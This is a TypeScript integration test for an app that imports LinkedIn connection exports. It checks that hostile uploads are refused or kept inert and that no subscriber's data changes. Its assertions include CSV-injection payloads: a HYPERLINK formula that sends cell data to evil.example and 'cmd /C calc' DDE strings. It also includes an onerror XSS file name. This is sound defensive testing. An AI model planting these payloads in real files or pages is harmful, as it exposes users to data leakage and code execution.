/**
 * Issue #8, bad input: hostile uploads through the real import path (storeUpload into Postgres,
 * runImport with the real parser). Each must end in a clear, plain-words reason on the exports row
 * (or an import that keeps hostile text inert), leave every subscriber's data as it was, and leave
 * the importer able to import the next good file.
 */
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findOrCreateSubscriber } from '../../db/queries/subscribers.ts';
import { applyAnswers } from '../../services/actions/apply-answers.ts';
import { issueToken } from '../../services/actions/tokens.ts';
import { runImport } from '../../services/import/run-import.ts';
import { storeUpload } from '../../services/import/store-upload.ts';
import { ExportError } from '../../domain/linkedin-export/types.ts';
import { buildWebApp } from '../../processes/web/app.ts';
import { builtDigest, importedSubscriber } from '../support/fixtures.ts';
import { assertPlainWords, assertUnchanged, leakIn, snapshot, visibleText, within } from '../support/hostile/checks.ts';
import { exportCases, type ExportCase } from '../support/hostile/export-cases.ts';
import { connectionsCsv } from '../support/hostile/files.ts';
import { signedIn } from '../support/session.ts';
import { createTestContext, type TestContext } from '../support/test-context.ts';

const cases = exportCases();
const MAX_BYTES = 50 * 1024 * 1024;

describe('hostile exports through storeUpload and runImport', () => {
  let ctx: TestContext;
  let victim: string;
  let n = 0;

  beforeAll(async () => {
    ctx = await createTestContext();
    // A subscriber with a real network, answered items and a sent-ready digest: what must survive.
    const { subscriber } = await importedSubscriber(ctx, 'victim@example.com', { connections: 60 });
    victim = subscriber.id;
    const links = await builtDigest(ctx, victim);
    const items = await ctx.db.selectFrom('digest_items').select(['number', 'kind']).where('digest_id', '=', links.digestId).orderBy('number').execute();
    const reviews = items.filter((i) => i.kind === 'review').slice(0, 3);
    await applyAnswers(ctx.db, {
      subscriberId: victim,
      digestId: links.digestId,
      answers: reviews.map((item, i) => ({ item: item.number, answer: (['known', 'close', 'unknown'] as const)[i]! })),
      source: 'web',
    });
  });

  afterAll(async () => {
    await ctx?.cleanup();
  });

  async function upload(subscriberId: string, c: ExportCase) {
    const content = c.bytes();
    const file = path.join(ctx.config.varDir, `hostile-${n++}`);
    await writeFile(file, typeof content === 'string' ? Buffer.from(content, 'utf8') : content);
    return storeUpload(ctx.db, { subscriberId, filePath: file, fileName: c.fileName, source: 'web', maxBytes: c.storeMaxBytes ?? MAX_BYTES });
  }

  async function exportRow(id: string) {
    return ctx.db.selectFrom('exports').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
  }

  async function chunksLeft(id: string) {
    return (await ctx.db.selectFrom('export_chunks').select('seq').where('export_id', '=', id).execute()).length;
  }

  const refusals = cases.filter((c) => c.expect.kind !== 'accepted');
  const accepted = cases.filter((c) => c.expect.kind === 'accepted');

  /**
   * A subscriber of their own for each case that might import: with a previous network, a tie and
   * its event, so that emptying or rewriting the network shows, and one case's damage cannot hide
   * the next one's.
   */
  async function subscriberWithNetwork(label: string): Promise<string> {
    const subscriber = await findOrCreateSubscriber(ctx.db, { email: `network-${label}-${n}@example.com` });
    const file = path.join(ctx.config.varDir, `network-${n++}.csv`);
    await writeFile(file, connectionsCsv(12, `net-${n}`));
    const stored = await storeUpload(ctx.db, { subscriberId: subscriber.id, filePath: file, fileName: 'Connections.csv', source: 'web', maxBytes: MAX_BYTES });
    expect((await runImport(ctx, stored.exportId)).status).toBe('imported');
    const connection = await ctx.db.selectFrom('connections').select('id').where('subscriber_id', '=', subscriber.id).executeTakeFirstOrThrow();
    await ctx.db.insertInto('ties').values({ connection_id: connection.id, subscriber_id: subscriber.id, tie: 'close' }).execute();
    await ctx.db.insertInto('tie_events').values({ connection_id: connection.id, subscriber_id: subscriber.id, tie: 'close', previous_tie: null, source: 'web' }).execute();
    return subscriber.id;
  }

  it.each(refusals.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
    const victimId = c.expect.kind === 'keeps-data' ? await subscriberWithNetwork('keeps') : victim;
    const before = await snapshot(ctx.db);
    const exportsBefore = await ctx.db.selectFrom('exports').select('id').where('subscriber_id', '=', victimId).execute();

    if (c.expect.kind === 'refused-at-store') {
      const error = await upload(victimId, c).then(
        () => null,
        (e: unknown) => e,
      );
      expect(error).toBeInstanceOf(ExportError);
      expect((error as ExportError).code).toBe(c.expect.code);
      assertPlainWords((error as ExportError).message, c.name);
      const exportsAfter = await ctx.db.selectFrom('exports').select('id').where('subscriber_id', '=', victimId).execute();
      expect(exportsAfter).toHaveLength(exportsBefore.length);
      assertUnchanged(before, await snapshot(ctx.db), c.name);
      return;
    }

    const stored = await upload(victimId, c);
    expect(stored.duplicate).toBe(false);
    // Every case is bounded: the limits, not the input, decide how long it takes.
    const { value: outcome } = await within(15_000, c.name, () => runImport({ ...ctx, limits: c.limits }, stored.exportId));
    const row = await exportRow(stored.exportId);

    if (c.expect.kind === 'rejected') {
      expect(outcome).toMatchObject({ status: 'failed', code: c.expect.code });
      expect(row).toMatchObject({ status: 'failed', error_code: c.expect.code });
      assertPlainWords(row.error_message, c.name);
      expect(outcome.status === 'failed' && outcome.message).toBe(row.error_message);
    } else {
      // keeps-data: a refusal must be explained; an import must not have touched the network.
      expect(['failed', 'imported']).toContain(outcome.status);
      if (outcome.status === 'failed') assertPlainWords(row.error_message, c.name);
    }
    // The raw upload is deleted once it has been read, whatever the outcome.
    expect(await chunksLeft(stored.exportId)).toBe(0);
    assertUnchanged(before, await snapshot(ctx.db), c.name);
  });

  it.each(accepted.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
    if (c.expect.kind !== 'accepted') throw new Error('unreachable');
    const others = await snapshot(ctx.db);
    const subscriber = await findOrCreateSubscriber(ctx.db, { email: `accepted-${n}@example.com` });
    const stored = await upload(subscriber.id, c);
    const { value: outcome } = await within(15_000, c.name, () => runImport({ ...ctx, limits: c.limits }, stored.exportId));
    expect(outcome.status, JSON.stringify(outcome)).toBe('imported');
    if (outcome.status !== 'imported') return;
    const connections = await ctx.db
      .selectFrom('connections')
      .select(['match_key', 'first_name', 'last_name', 'company', 'position', 'email'])
      .where('subscriber_id', '=', subscriber.id)
      .execute();
    await c.expect.check({ connections, connectionsInSummary: outcome.summary.connections, rejectedRows: outcome.summary.rejectedRows });
    expect(await chunksLeft(stored.exportId)).toBe(0);
    // Nobody else's rows moved (the new subscriber's own rows are the only additions).
    const after = await snapshot(ctx.db);
    for (const table of Object.keys(others) as Array<keyof typeof others>) {
      const mine = (rows: string[]) => rows.filter((row) => !row.includes(subscriber.id));
      expect(mine(after[table]), table).toEqual(mine(others[table]));
    }
  });

  it('hostile names and formulas stay inert in the subscriber’s own CSV download and in the upload status page', async () => {
    const formulas = accepted.find((c) => c.name.startsWith('CSV formula cells'))!;
    const markup = accepted.find((c) => c.name.startsWith('markup and script'))!;
    const subscriber = await findOrCreateSubscriber(ctx.db, { email: 'inert@example.com' });
    for (const c of [formulas, markup]) {
      const stored = await upload(subscriber.id, c);
      expect((await runImport(ctx, stored.exportId)).status).toBe('imported');
    }
    const app = await buildWebApp(ctx);
    try {
      const { cookie } = await signedIn(ctx, subscriber.id);
      const csv = await app.inject({ method: 'GET', url: '/my-data/connections.csv', headers: { cookie } });
      expect(csv.statusCode).toBe(200);
      // Every cell is quoted and a formula start gets a leading apostrophe (OWASP CSV injection).
      expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
      expect(csv.body).toContain(`"'+cmd|' /C calc'!A0"`);
      expect(csv.body).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
      expect(csv.body).toContain(`"'-2+3"`);
      expect(csv.body).not.toMatch(/(^|,)"[=+@-]/m);

      // A file name with markup is shown back escaped, never as markup.
      const uploadToken = await issueToken(ctx.db, ctx.config.tokenSecrets, { subscriberId: subscriber.id, scope: 'upload' });
      const bad = await upload(subscriber.id, { ...markup, fileName: '<img src=x onerror=alert(1)>.csv', bytes: () => 'Name,Age\nJane,40\n' });
      expect(await runImport(ctx, bad.exportId)).toMatchObject({ status: 'failed', code: 'no_header' });
      const page = await app.inject({ method: 'GET', url: `/upload/${uploadToken}/status/${bad.exportId}` });
      expect(page.statusCode).toBe(200);
      expect(page.body).not.toContain('<img src=x');
      expect(page.body).toContain('&lt;img src=x onerror=alert(1)&gt;.csv');
      expect(leakIn(visibleText(page.body))).toBeNull();
    } finally {
      await app.close();
    }
  });

  it('after the whole corpus the importer still imports a good file for the same subscriber', async () => {
    const failed = await ctx.db.selectFrom('exports').select(['error_code', 'error_message']).where('status', '=', 'failed').execute();
    expect(failed.length).toBeGreaterThanOrEqual(refusals.filter((c) => c.expect.kind === 'rejected').length);
    const stuck = await ctx.db.selectFrom('exports').select('id').where('status', 'in', ['pending', 'importing']).execute();
    expect(stuck).toEqual([]);

    const file = path.join(ctx.config.varDir, 'good.csv');
    await writeFile(file, connectionsCsv(25, 'good'));
    const stored = await storeUpload(ctx.db, { subscriberId: victim, filePath: file, fileName: 'Connections.csv', source: 'web', maxBytes: MAX_BYTES });
    const outcome = await runImport(ctx, stored.exportId);
    expect(outcome.status === 'imported' && outcome.summary.connections).toBe(25);
  });
});
